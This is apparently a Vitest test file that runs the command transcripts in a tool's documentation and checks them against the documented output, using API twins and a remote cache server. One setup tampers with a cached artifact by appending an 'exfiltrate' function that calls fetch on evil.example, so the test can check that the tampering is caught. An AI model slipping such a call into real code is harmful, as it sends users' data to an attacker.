/**
 * Every transcript in docs/ (a fenced block that shows a command and what it prints) is run and
 * compared, so the guides cannot drift from what speccc prints. A transcript is a fenced block
 * right after `<!-- transcript: SETUP -->` (or `<!-- transcript: SETUP, excerpt -->`): its
 * `$ speccc …` lines are run, in order, in the folder SETUP names (below: how each is made,
 * with the twin of the API where a build is needed), and the other lines are what they print.
 * What a terminal shows is compared: stdout, then stderr. An excerpt's lines must each appear,
 * in order; any other transcript must match whole. Both sides are normalised first: ports, run
 * ids, job keys, times and dollar amounts vary from run to run; counts do not.
 *
 * docs/getting-started.md has its own test (test/e2e/getting-started.test.ts), which follows
 * the whole guide; docs/diagnostics.md is generated (test/e2e/docs.test.ts). Any other block that
 * looks like printed output must be a transcript: the last test says where one is not.
 */
import { cpSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { afterAll, describe, expect, it } from 'vitest';
import { directoryScript, startTwin, writeFilesReply } from '../../src/api-twin/index.js';
import { runCli } from '../helpers/cli.js';
import { moneyUnproven } from '../helpers/provider.js';
import { startCacheServer, type CacheServer } from '../helpers/remote-cache-server.js';
import { useTempWorkspace, useTwin } from '../helpers/fixtures.js';
import { repo } from '../helpers/workspaces.js';
import { CONFIG, confirm, DRAFTS, MODULES, packageCopy, REPLIES } from '../helpers/adopt-fixture.js';

const DOCS = path.join(repo, 'docs');
/** Tested elsewhere: followed whole by its own test, or generated and compared. */
const OWN_TEST = new Set(['getting-started.md', 'diagnostics.md']);

interface Transcript {
  file: string;
  /** 1-based line of the opening fence. */
  line: number;
  setup: string;
  excerpt: boolean;
  commands: string[][];
  shown: string[];
}

interface Block {
  file: string;
  line: number;
  marker: string | undefined;
  body: string;
}

/** Every fenced block of a markdown file, with the HTML comment right before it, if any. */
function blocks(file: string): Block[] {
  const text = readFileSync(path.join(DOCS, file), 'utf8');
  const out: Block[] = [];
  for (const m of text.matchAll(/(?:<!-- ([^>]*?) -->\n)?^```[^\n]*\n([\s\S]*?)^```$/gm)) {
    out.push({ file, line: text.slice(0, m.index).split('\n').length + (m[1] ? 1 : 0), marker: m[1], body: m[2]!.replace(/\n$/, '') });
  }
  return out;
}

const docFiles = () => readdirSync(DOCS).filter((f) => f.endsWith('.md') && !OWN_TEST.has(f)).sort();

function transcripts(): Transcript[] {
  const out: Transcript[] = [];
  for (const file of docFiles()) {
    for (const b of blocks(file)) {
      const m = /^transcript: ([\w-]+)(, excerpt)?$/.exec(b.marker ?? '');
      if (!m) continue;
      const lines = b.body.split('\n');
      out.push({
        file,
        line: b.line,
        setup: m[1]!,
        excerpt: Boolean(m[2]),
        commands: lines.filter((l) => l.startsWith('$ ')).map((l) => l.slice(2).trim().split(/\s+/)),
        shown: lines.filter((l) => !l.startsWith('$ ')),
      });
    }
  }
  return out;
}

/** What varies from run to run, replaced by a name on both sides. */
export function normalise(text: string): string {
  return text
    .replace(/127\.0\.0\.1:\d+/g, '127.0.0.1:<port>')
    .replace(/\b\d{4}-\d\d-\d\dT\d\d-\d\d-\d\d-\d{3}Z-\d+\b/g, '<run-id>')
    .replace(/\b\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(?:\.\d+)?Z\b/g, '<time>')
    .replace(/\b[0-9a-f]{12,64}\b/g, '<key>')
    .replace(/\$\d+(?:\.\d+)?/g, '<usd>')
    .replace(/\b\d+(?:\.\d+)? ?(?:ms|s)\b/g, '<duration>')
    .replace(/[ \t]+$/gm, '');
}

// --- the folders transcripts run in ---------------------------------------------------------

const workspaces = useTempWorkspace({ scope: 'all' });
const closers: (() => Promise<unknown>)[] = [];
afterAll(async () => {
  for (const close of closers) await close();
});

/**
 * One twin for every transcript that builds, started by the first. Those builds are of money
 * alone, and what they show is a cache warning or an audit, never coverage: money is answered
 * with its tests' titles stripped of requirement ids (moneyUnproven), so each build is
 * type-checked, tested and promoted without the coverage proof's ~17 test runs.
 */
const twins = useTwin({ scope: 'all' });
async function apiEnv(): Promise<NodeJS.ProcessEnv> {
  const script = [{ match: { specId: 'money' }, reply: writeFilesReply(moneyUnproven) }, ...(await directoryScript(path.join(repo, 'examples/replies')))];
  const twin = twins.running ?? (await twins.start({ script }));
  return { ANTHROPIC_BASE_URL: twin.url, ANTHROPIC_API_KEY: 'sk-ant-test-docs-0123456789', PATH: process.env.PATH };
}

/** A twin of the API answering from one of the adopt walkthrough's replies folders. */
async function adoptTwin(dir: string): Promise<NodeJS.ProcessEnv> {
  const started = await startTwin({ script: await directoryScript(dir) });
  closers.push(() => started.close());
  return { ANTHROPIC_BASE_URL: started.url, ANTHROPIC_API_KEY: 'sk-ant-test-docs-0123456789', PATH: process.env.PATH };
}

async function build(root: string, env: NodeJS.ProcessEnv): Promise<void> {
  const run = await runCli(['build'], { cwd: root, env });
  expect(run.code, `${run.stdout}${run.stderr}`).toBe(0);
}

/** A shared result cache (a real turborepo-remote-cache server), for the remote-cache setups. */
let cache: { server: CacheServer; token: string; key: string } | undefined;
async function cacheEnv(): Promise<{ server: CacheServer; env: NodeJS.ProcessEnv }> {
  if (!cache) {
    const token = `tok-${randomBytes(12).toString('hex')}`;
    const server = await startCacheServer(token);
    closers.push(() => server.stop());
    cache = { server, token, key: randomBytes(32).toString('hex') };
  }
  return { server: cache.server, env: { ...(await apiEnv()), SPECCC_REMOTE_CACHE_TOKEN: cache.token, SPECCC_REMOTE_CACHE_KEY: cache.key } };
}

/** The money spec alone, sharing its results through a remote cache at `url` as `team`. */
function cachedMoney(url: string, team: string): string {
  const root = workspaces.moneyOnly();
  writeFileSync(path.join(root, 'speccc.config.json'), JSON.stringify({ cache: { remote: { url, team } } }, null, 2));
  return root;
}

/** Where a transcript runs; `shownAs` maps a temporary path to the one the doc shows instead. */
interface Setup {
  cwd: string;
  env: NodeJS.ProcessEnv;
  shownAs?: Record<string, string>;
}

const SETUPS: Record<string, () => Promise<Setup>> = {
  /** examples/checkout: a product with a twin of a payment service and recorded traffic. */
  async checkout() {
    const root = workspaces.empty('speccc-docs-');
    cpSync(path.join(repo, 'examples/checkout'), root, { recursive: true, filter: (src) => !/[/\\](node_modules|\.speccc)$/.test(src) });
    return { cwd: root, env: { PATH: process.env.PATH } };
  },
  /** The bundled example, built (its committed generated/ tree) with its holdout scenarios. */
  async example() {
    return { cwd: workspaces.example(['specs', 'context', 'generated', 'scenarios', 'speccc.config.json']), env: { PATH: process.env.PATH } };
  },
  /** The bundled example with one more property holdout, which its code rightly breaks (half to even rounds 0.5 down). */
  async property() {
    const root = workspaces.example(['specs', 'context', 'generated', 'scenarios', 'speccc.config.json']);
    writeFileSync(
      path.join(root, 'scenarios/money/never-rounds-down.test.ts'),
      "import fc from 'fast-check';\nimport { expect, it } from 'vitest';\nimport { money, multiplyBasisPoints } from '../../src/money.js';\n\nit('half of an amount never rounds down', () => {\n  fc.assert(fc.property(fc.integer({ min: 0, max: 1_000_000 }), (minor) => {\n    expect(multiplyBasisPoints(money(minor), 5_000).minor * 2).toBeGreaterThanOrEqual(minor);\n  }));\n});\n",
    );
    return { cwd: root, env: { PATH: process.env.PATH } };
  },
  /** The money spec built against the twin, then built again after someone pasted its holdout scenario into it. */
  async leak() {
    const root = workspaces.moneyOnly();
    cpSync(path.join(repo, 'scenarios/money'), path.join(root, 'scenarios/money'), { recursive: true });
    const env = await apiEnv();
    await build(root, env);
    const scenario = readFileSync(path.join(root, 'scenarios/money/negative-ties.md'), 'utf8').replace(/^---[\s\S]*?---\n+# /, '### Scenario: ');
    const spec = path.join(root, 'specs/core/money.md');
    writeFileSync(spec, `${readFileSync(spec, 'utf8').trimEnd()}\n\n${scenario}`);
    await build(root, env);
    return { cwd: root, env: { PATH: process.env.PATH } };
  },
  /** A teammate built money into the shared cache; then its stored artifact was altered (not its tag). */
  async 'remote-cache-tampered'() {
    const { server, env } = await cacheEnv();
    await build(cachedMoney(server.url, 'team_docs'), env);
    const stored = readdirSync(path.join(server.storage, 'team_docs')).filter((f) => !f.endsWith('.tag'));
    expect(stored).toHaveLength(1);
    const artifact = path.join(server.storage, 'team_docs', stored[0]!);
    const result = JSON.parse(readFileSync(artifact, 'utf8')) as { files: Record<string, string> };
    result.files['src/money.ts'] += "\nexport const exfiltrate = () => fetch('https://evil.example');\n";
    writeFileSync(artifact, JSON.stringify(result));
    return { cwd: cachedMoney(server.url, 'team_docs'), env };
  },
  /** A workspace `speccc init` made, and a twin answering from a replies folder that is still empty. */
  async 'missing-reply'() {
    const home = workspaces.empty('speccc-docs-');
    mkdirSync(path.join(home, 'replies'));
    const empty = await startTwin({ script: await directoryScript(path.join(home, 'replies')) });
    closers.push(() => empty.close());
    expect((await runCli(['init', 'acme'], { cwd: home })).code).toBe(0);
    return { cwd: path.join(home, 'acme'), env: { ...empty.env('rehearsal'), PATH: process.env.PATH }, shownAs: { [home]: '/home/me' } };
  },
  /** docs/adopt.md: the vendored tsconfig-paths package as its authors left it. */
  async 'tsconfig-paths'() {
    return { cwd: packageCopy(workspaces.temps), env: { PATH: process.env.PATH } };
  },
  /** Three of its modules, and a twin that answers the drafting requests (test/adopt/samples/tsconfig-paths/drafts). */
  async 'tsconfig-paths-drafting'() {
    return { cwd: packageCopy(workspaces.temps, MODULES), env: await adoptTwin(DRAFTS) };
  },
  /** The three drafted and confirmed (markers deleted, status: ready, type-check off), and a twin that builds them. */
  async 'tsconfig-paths-confirmed'() {
    const root = packageCopy(workspaces.temps, MODULES);
    const drafted = await runCli(['adopt'], { cwd: root, env: await adoptTwin(DRAFTS) });
    expect(drafted.code, drafted.stderr).toBe(0);
    confirm(root, MODULES);
    writeFileSync(path.join(root, 'speccc.config.json'), CONFIG);
    return { cwd: root, env: await adoptTwin(REPLIES) };
  },
  /** The bundled example with examples/triage's requests in requests/, and a twin answering triage from examples/triage/replies. */
  async triage() {
    const root = workspaces.example(['specs', 'context', 'speccc.config.json']);
    cpSync(path.join(repo, 'examples/triage/requests'), path.join(root, 'requests'), { recursive: true });
    const replies = await startTwin({ script: await directoryScript(path.join(repo, 'examples/triage/replies')) });
    closers.push(() => replies.close());
    return { cwd: root, env: { ...replies.env('rehearsal'), PATH: process.env.PATH } };
  },
  /** The bundled example after a `verify --mutate` run that left two money mutants alive, and a twin answering proposals from examples/replies/@proposals. */
  async proposals() {
    const root = workspaces.example(['specs', 'context', 'generated', 'scenarios', 'speccc.config.json']);
    const requirement = 'money#R-roundhalfeven-numerator-denominator-divides-two';
    const survivors = [
      { file: 'src/money.ts', line: 46, column: 7, end: { line: 46, column: 24 }, mutator: 'ConditionalExpression', original: 'denominator === 0', replacement: 'false', status: 'Survived', requirements: [requirement] },
      { file: 'src/money.ts', line: 50, column: 16, end: { line: 50, column: 61 }, mutator: 'ArithmeticOperator', original: 'Math.sign(numerator) * Math.sign(denominator)', replacement: 'Math.sign(numerator) / Math.sign(denominator)', status: 'Survived', requirements: [requirement] },
    ];
    mkdirSync(path.join(root, '.speccc/verify'), { recursive: true });
    writeFileSync(path.join(root, '.speccc/verify/survivors.json'), JSON.stringify({ at: '2026-12-07T20:00:00.000Z', specs: [{ spec: 'money', score: 41.3, files: ['src/money.ts'], survivors }] }));
    const replies = await startTwin({ script: await directoryScript(path.join(repo, 'examples/replies')) });
    closers.push(() => replies.close());
    return { cwd: root, env: { ...replies.env('rehearsal'), PATH: process.env.PATH } };
  },
  /** A shared cache configured at a port where nothing listens. */
  async 'remote-cache-down'() {
    const closed = net.createServer();
    await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
    const { port } = closed.address() as net.AddressInfo;
    await new Promise<void>((resolve) => closed.close(() => resolve()));
    const { env } = await cacheEnv();
    return { cwd: cachedMoney(`http://127.0.0.1:${port}`, 'team_down'), env };
  },
};

/** Lines of `shown` that are not in `actual`, in order (each found after the previous one). */
function missingInOrder(shown: string[], actual: string[]): string[] {
  let at = 0;
  const missing: string[] = [];
  for (const line of shown) {
    const found = actual.indexOf(line, at);
    if (found < 0) missing.push(line);
    else at = found + 1;
  }
  return missing;
}

describe('docs/: transcripts print what speccc prints', () => {
  const all = transcripts();

  it('there are transcripts, and each names a setup this test knows', () => {
    expect(all.length).toBeGreaterThan(0);
    for (const t of all) {
      expect(Object.keys(SETUPS), `docs/${t.file}:${t.line}`).toContain(t.setup);
      expect(t.commands.length, `docs/${t.file}:${t.line}: a transcript shows a command`).toBeGreaterThan(0);
      for (const c of t.commands) expect(c[0], `docs/${t.file}:${t.line}`).toBe('speccc');
    }
  });

  for (const t of all) {
    it(`docs/${t.file}:${t.line}: ${t.commands.map((c) => c.join(' ')).join('; ')}`, async () => {
      const { cwd, env, shownAs = {} } = await SETUPS[t.setup]!();
      let printed = '';
      for (const command of t.commands) {
        const run = await runCli(command.slice(1), { cwd, env });
        expect(run.code, `${command.join(' ')}: not an internal error\n${run.stderr}`).not.toBe(3);
        printed += run.stdout + run.stderr;
      }
      for (const [from, to] of Object.entries(shownAs)) printed = printed.replaceAll(from, to);
      const actual = normalise(printed).trimEnd().split('\n');
      const shown = normalise(t.shown.join('\n')).trimEnd().split('\n');
      if (t.excerpt) expect(missingInOrder(shown, actual), `docs/${t.file}:${t.line}: lines not printed (in this order); printed:\n${actual.join('\n')}`).toEqual([]);
      else expect(actual, `docs/${t.file}:${t.line}`).toEqual(shown);
    }, 180_000);
  }

  it('every block that shows printed output is a transcript, and no doc writes down a port', () => {
    const OUTPUT = /^(?:\$ |(?:# )?[✔✖⚠…] |speccc: )/m;
    const untested = docFiles()
      .flatMap((file) => blocks(file))
      .filter((b) => OUTPUT.test(b.body) && !/^transcript: /.test(b.marker ?? ''))
      .map((b) => `docs/${b.file}:${b.line}`);
    expect(untested, 'mark these <!-- transcript: SETUP --> (see the top of this file)').toEqual([]);
    for (const file of [...docFiles(), ...OWN_TEST]) expect(readFileSync(path.join(DOCS, file), 'utf8'), `docs/${file}`).not.toMatch(/127\.0\.0\.1:\d/);
  });
});
